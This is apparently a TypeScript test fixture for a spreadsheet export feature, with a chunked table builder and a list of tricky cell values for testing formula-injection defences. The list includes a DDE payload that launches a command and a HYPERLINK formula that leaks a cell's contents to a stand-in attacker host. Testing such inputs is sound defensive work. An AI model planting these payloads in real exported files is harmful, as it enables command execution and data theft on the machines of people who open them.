import type { ExportCell, ExportTable } from '../export-table.ts';

/** Builds a table of the given rows, a few at a time. */
export function tableOf(
  rows: readonly (readonly ExportCell[])[],
  change: Partial<ExportTable> = {},
): ExportTable {
  const chunk = 1000;
  return {
    fileName: 'report-1-opens',
    sheetName: 'Opens',
    columns: ['Email', 'Opens'],
    count: rows.length,
    async *rows() {
      for (let at = 0; at < rows.length; at += chunk) yield await Promise.resolve(rows.slice(at, at + chunk));
    },
    ...change,
  };
}

/** Cells that spreadsheets have run as formulas or failed on. */
export const hostileCells = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '=HYPERLINK("https://evil.example/?"&A1,"x")',
  '"=1+1"',
  '1;2,3',
  'a\nb',
  'Zoë 日本 😀',
  "'quoted",
  '007',
  '',
];
